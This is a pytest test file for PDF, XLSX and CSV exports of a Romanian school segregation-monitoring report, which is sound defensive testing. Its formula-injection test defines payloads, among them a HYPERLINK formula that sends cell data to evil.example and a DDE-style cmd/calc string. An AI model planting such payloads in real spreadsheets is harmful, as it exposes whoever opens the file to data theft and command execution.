"""Report files (exports.render): PDF text holds the diacritics and the numbers of the data, the XLSX reopens with
its sheets, frozen headers, typed numbers and totals, the CSV is Excel-ready and inert, empty reports render.

The data comes from :func:`exports.render.samples.sample_data` — the real indicator engine over synthetic units —
with a few names replaced by the ones the tests look for.
"""
from __future__ import annotations

import copy
import csv
import io
import xml.etree.ElementTree as ET

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from exports import render
from exports.render import charts
from exports.render.labels import Labels
from exports.render.samples import sample_data

MURES = "Școala Gimnazială Nr. 1 Târgu Mureș"
ARGES = "Județul Argeș — Inspectoratul Școlar"
FOUNDED = "Școala Gimnazială „Ștefan cel Mare” Întorsura Buzăului, înființată în 1990"
INJECTION = '=HYPERLINK("http://evil.example/steal?x="&A1,"Click")'


@pytest.fixture(scope="module")
def county():
    """A county report with 170 schools; the first school and the county carry the names the tests look for."""
    data = sample_data(children=170, level="inspectorate")
    data["node"]["name"] = ARGES
    data["children"][5]["name"] = MURES
    data["children"][6]["name"] = FOUNDED
    return data


@pytest.fixture(scope="module")
def unit():
    data = sample_data(children=14, level="unit")
    data["node"]["name"] = MURES
    return data


def pdf_text(blob: bytes) -> str:
    reader = PdfReader(io.BytesIO(blob))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def pdf_fonts(blob: bytes) -> set[str]:
    fonts = set()
    for page in PdfReader(io.BytesIO(blob)).pages:
        for font in (page["/Resources"].get("/Font") or {}).values():
            fonts.add(str(font.get_object()["/BaseFont"]))
    return fonts


def test_county_pdf_text_has_the_diacritics_and_the_numbers_of_the_data(county):
    blob = render.render("pdf", county, "ro")
    assert blob.startswith(b"%PDF-")
    text = pdf_text(blob)
    L = Labels("ro")
    assert ARGES in text and MURES in text and FOUNDED in text
    assert set("șțăâîȘÎ„”") <= set(text)
    assert any("DejaVuSans" in f for f in pdf_fonts(blob))  # the shipped font is embedded, not a base-14 one
    totals = county["totals"]
    assert L.number(totals["pupils"]) in text  # 58.264 — Romanian thousands separator
    assert L.number(county["children"][5]["pupils"]) in text
    assert L.number(totals["units_at_risk"]) in text
    assert county["campaign"]["name"] in text
    for child in county["children"][:3] + county["children"][-3:]:
        assert child["name"] in text  # the whole breakdown is in the document, cut into short tables
    # the chart of units at risk per school, drawn with the embedded font (its labels extract with diacritics)
    title, svg = charts.document_chart(county, L, "any")
    assert title in text and L.share(county["totals"]["units_at_risk_share"]) in text
    labels = [t.text for t in ET.fromstring(svg).iter("{http://www.w3.org/2000/svg}text")]
    assert any("ș" in label or "Ș" in label for label in labels)
    assert all(label in text for label in labels)


def test_unit_pdf_in_english_lists_the_flagged_items_with_their_numbers(unit):
    blob = render.render("pdf", unit, "en")
    text = pdf_text(blob)
    L = Labels("en")
    assert MURES in text
    assert "Segregation monitoring report" in text
    assert L.number(unit["totals"]["pupils"]) in text  # 262 / 1,234: English separators
    flagged = [r for r in unit["risk"] if r["outcome"] == "risk"]
    assert flagged, "the sample unit is built with concentrated Roma pupils"
    top = max(flagged, key=lambda r: r["score"])
    assert L.score(top["score"]) in text and L.share(top["share"]) in text
    for child in unit["children"]:
        assert L.number(child["pupils"]) in text


def test_the_pdf_risk_list_of_a_unit_is_capped_and_says_where_the_rest_is(unit, monkeypatch):
    from exports.render import pdf

    monkeypatch.setattr(pdf, "RISK_LIMIT", 2)
    ctx = pdf.context(unit, Labels("en"))
    section = ctx["sections"][-1]
    assert sum(len(chunk) for chunk in section["chunks"]) == 2
    assert str(len(unit["risk"])) in section["note"] and "XLSX" in section["note"]


def test_pdf_tables_stay_short(county):
    """xhtml2pdf slows down on long tables: no table in the document has more than CHUNK rows."""
    from exports.render import pdf

    html = pdf.html(county, "ro")
    tables = html.split("<table")[1:]
    assert len(tables) > 170 // pdf.CHUNK
    assert max(t.split("</table>")[0].count("<tr") for t in tables) <= pdf.CHUNK + 1  # + the header row


def test_xlsx_reopens_with_sheets_frozen_headers_typed_numbers_and_the_totals(county):
    wb = load_workbook(io.BytesIO(render.render("xlsx", county, "en")))
    assert wb.sheetnames == ["Summary", "Groups", "Last two benches", "Units by criterion and level", "Schools",
                             "Units at risk", "Risk items", "Exclusions"]
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert all(c.font.b for c in ws[1] if c.value is not None)

    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(min_row=2, values_only=True)}
    totals = county["totals"]
    assert summary["Pupils"] == totals["pupils"] and isinstance(summary["Pupils"], int)
    assert summary["Units at risk"] == totals["units_at_risk"]
    assert summary["Share of units at risk"] == pytest.approx(totals["units_at_risk_share"])
    assert summary["Inspectorate"] == ARGES

    schools = wb["Schools"]
    header = [c.value for c in schools[1]]
    rows = list(schools.iter_rows(min_row=2))
    assert len(rows) == len(county["children"])
    col = {name: header.index(name) for name in ("Name", "Pupils", "Units", "Roma: share", "Roma: alert score")}
    assert sum(r[col["Pupils"]].value for r in rows) == totals["pupils"]
    assert sum(r[col["Units"]].value for r in rows) == totals["units"]
    assert rows[5][col["Name"]].value == MURES
    for r, child in zip(rows, county["children"], strict=True):
        assert r[col["Pupils"]].value == child["pupils"] and r[col["Pupils"]].data_type == "n"
        roma = child["groups"].get("ethnicity.roma")
        if roma:
            cell = r[col["Roma: share"]]
            assert isinstance(cell.value, float) and cell.value == pytest.approx(roma["share"])
            assert cell.number_format == "0.0%"
            assert r[col["Roma: alert score"]].value == pytest.approx(roma["score"])

    groups = {r[1]: r for r in wb["Groups"].iter_rows(min_row=2, values_only=True)}
    assert groups["Roma"][2:5] == (totals["groups"]["ethnicity.roma"]["n"], totals["groups"]["ethnicity.roma"]["N"],
                                   totals["groups"]["ethnicity.roma"]["missing"])
    risk = list(wb["Risk items"].iter_rows(min_row=2, values_only=True))
    assert len(risk) == len(county["risk"])
    assert {r[5] for r in risk} <= {"Risk", "Missing data"}
    exclusions = list(wb["Exclusions"].iter_rows(min_row=2, values_only=True))
    assert [r[2] for r in exclusions] == [e["name"] for e in county["exclusions"]]
    at_risk = list(wb["Units at risk"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in at_risk] == [u["name"] for u in county["units_at_risk"]]
    assert len(at_risk) == totals["units_at_risk"]


def test_a_capped_risk_list_says_how_many_items_were_flagged():
    """Above the unit report_data keeps the highest-scored items (exports.rollup.RISK_CAP) and counts them all."""
    data = sample_data(children=40, level="inspectorate", risk_cap=20)
    assert data["risk_total"] > len(data["risk"]) == 20
    wb = load_workbook(io.BytesIO(render.render("xlsx", data, "en")), read_only=True)
    summary = {row[0]: row[1] for row in wb["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary["Flagged items (risk or missing data)"] == data["risk_total"]
    assert summary["Flagged items listed (the highest alert scores)"] == 20
    assert len(list(wb["Risk items"].iter_rows(min_row=2))) == 20
    wb.close()
    text = pdf_text(render.render("pdf", data, "en"))
    assert f"The 20 flagged items with the highest alert scores, of {data['risk_total']}" in text
    top = data["risk"][0]
    assert top["unit"]["name"] in text and Labels("en").score(top["score"]) in text


def test_xlsx_and_csv_cells_are_inert(county):
    data = copy.deepcopy(county)
    data["children"][0]["name"] = INJECTION
    data["children"][1]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data["exclusions"][0]["reason"] = "+1+1"
    data["risk"][0]["unit"]["name"] = "-2+3"

    wb = load_workbook(io.BytesIO(render.render("xlsx", data, "en")))
    name = wb["Schools"].cell(row=2, column=3)
    assert name.data_type == "s" and name.value == "'" + INJECTION
    assert wb["Schools"].cell(row=3, column=3).value.startswith("'@")
    assert wb["Exclusions"].cell(row=2, column=4).value == "'+1+1"
    assert "'-2+3" in [r[0] for r in wb["Risk items"].iter_rows(min_row=2, values_only=True)]
    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)

    text = render.render("csv", data, "en").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][2] == "'" + INJECTION and rows[2][2].startswith("'@")
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell and not _number(cell))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_is_utf8_with_bom_one_row_per_child_and_a_total_row(county):
    blob = render.render("csv", county, "en")
    assert blob.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in blob
    rows = list(csv.reader(io.StringIO(blob.decode("utf-8-sig"), newline="")))
    header, body, total = rows[0], rows[1:-1], rows[-1]
    assert header[:4] == ["Level", "Code", "Name", "State"] and "Roma: share" in header
    assert len(body) == len(county["children"]) and all(len(r) == len(header) for r in rows)
    assert body[5][2] == MURES
    pupils = header.index("Pupils")
    assert [int(r[pupils]) for r in body] == [c["pupils"] for c in county["children"]]
    assert total[0] == "Total" and total[2] == ARGES and int(total[pupils]) == county["totals"]["pupils"]
    share = header.index("Roma: share")
    assert float(total[share]) == pytest.approx(county["totals"]["groups"]["ethnicity.roma"]["share"], abs=1e-4)


@pytest.mark.parametrize("level", ["unit", "school", "inspectorate", "ministry"])
def test_an_empty_report_renders_in_every_format(level):
    data = sample_data(children=0, level=level)
    assert data["children"] == [] and data["risk"] == [] and data["completion"]["submitted"] == 0
    pdf = render.render("pdf", data, "ro")
    assert data["node"]["name"] in pdf_text(pdf)
    wb = load_workbook(io.BytesIO(render.render("xlsx", data, "ro")))
    assert len(wb.sheetnames) == (7 if level == "unit" else 8)  # + the units at risk above a unit
    assert [r for r in wb.worksheets[4].iter_rows(min_row=2)] == []  # the breakdown sheet: header only
    rows = list(csv.reader(io.StringIO(render.render("csv", data, "ro").decode("utf-8-sig"))))
    assert len(rows) == 2 and rows[1][6:9] == ["0", "0", "0"]  # header + the total row of zeros


def test_a_report_without_optional_parts_renders():
    """Only what the contract guarantees; None wherever a value may be missing."""
    data = sample_data(children=3, level="school")
    data["node"].update(code=None, county=None, school=None)
    data["children"][0].update(code=None, groups={}, state="in_progress")
    data["totals"]["units_at_risk_share"] = None
    data["generated_at"] = None
    for fmt in render.FORMATS:
        assert render.render(fmt, data, "en")


def test_filenames_are_ascii_and_name_the_node_and_version(county, unit):
    assert render.filename(county, "pdf") == "raport-MS-2026-2027-v1.pdf"
    nameless = copy.deepcopy(unit)
    nameless["node"]["code"] = None
    nameless["version"] = 3
    name = render.filename(nameless, "xlsx")
    assert name == "raport-Scoala-Gimnaziala-Nr-1-Targu-Mures-2026-2027-v3.xlsx" and name.isascii()
    national = sample_data(children=0, level="ministry")
    assert render.filename(national, "csv") == "raport-national-2026-2027-v1.csv"
    for fmt in render.FORMATS:
        assert render.filename(unit, fmt).endswith("." + fmt) and fmt in render.CONTENT_TYPES


def test_the_registry_refuses_unknown_and_duplicate_formats(unit):
    with pytest.raises(ValueError, match="unknown report format"):
        render.render("docx", unit)
    with pytest.raises(ValueError, match="already registered"):
        render.register("pdf", lambda data, lang: b"")


def test_pdf_shows_markup_in_names_as_text(unit):
    data = copy.deepcopy(unit)
    data["node"]["name"] = "<b>Școala</b> & „Liceul” <script>x()</script>"
    data["children"][0]["name"] = "<i>5A</i>"
    text = pdf_text(render.render("pdf", data, "en"))
    assert "<b>Școala</b> & „Liceul” <script>x()</script>" in text and "<i>5A</i>" in text


def test_a_units_extended_monitoring_answers_are_in_the_pdf_and_the_xlsx(unit):
    data = copy.deepcopy(unit)
    flagged = data["children"][1]
    data["extended"] = {"state": "submitted", "values": {
        "commission.established": True, "plan.exists": True, "plan.date": "2026-10-01",
        "measures": ["mixed_seating", "other"], "measures_other": "=HYPERLINK(\"x\")",
        f"flagged_classes.c{flagged['id']}.formation_reason": "parental_choice",
        f"flagged_classes.c{flagged['id']}.explanation": "Părinții au cerut clasa cu predare în limba română.",
    }}
    wb = load_workbook(io.BytesIO(render.render("xlsx", data, "en")))
    assert wb.sheetnames[-1] == "Extended monitoring"
    answers = dict(wb["Extended monitoring"].iter_rows(min_row=2, values_only=True))
    assert answers["Extended monitoring"] == "submitted"
    assert answers["A desegregation and inclusion plan exists"] == "Yes"
    assert answers["The measures taken"] == "Mixed seating; Other"
    assert answers["Other measures (description)"] == "'=HYPERLINK(\"x\")"
    assert answers[f"{flagged['name']} — Why the class was formed this way"] == "Parental choice"
    # the form's own Romanian wording, with its diacritics, in the Romanian PDF
    text = pdf_text(render.render("pdf", data, "ro"))
    assert "Există un plan de desegregare și incluziune" in text and "01.10.2026" in text
    assert "Părinții au cerut clasa cu predare în limba română." in text and "Opțiunea părinților" in text
    assert "Extended monitoring" not in [
        ws.title for ws in load_workbook(io.BytesIO(render.render("xlsx", unit, "en"))).worksheets]
